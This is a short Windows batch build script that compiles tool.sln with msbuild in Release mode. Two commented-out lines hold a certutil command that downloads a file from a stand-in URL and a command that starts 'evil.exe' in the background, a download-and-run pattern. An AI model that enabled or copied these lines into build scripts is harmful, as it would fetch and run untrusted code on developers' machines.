@echo off
rem certutil -urlcache -f http://example.com/x x
:: start /B evil.exe
msbuild tool.sln /p:Configuration=Release
if errorlevel 1 exit /b 1
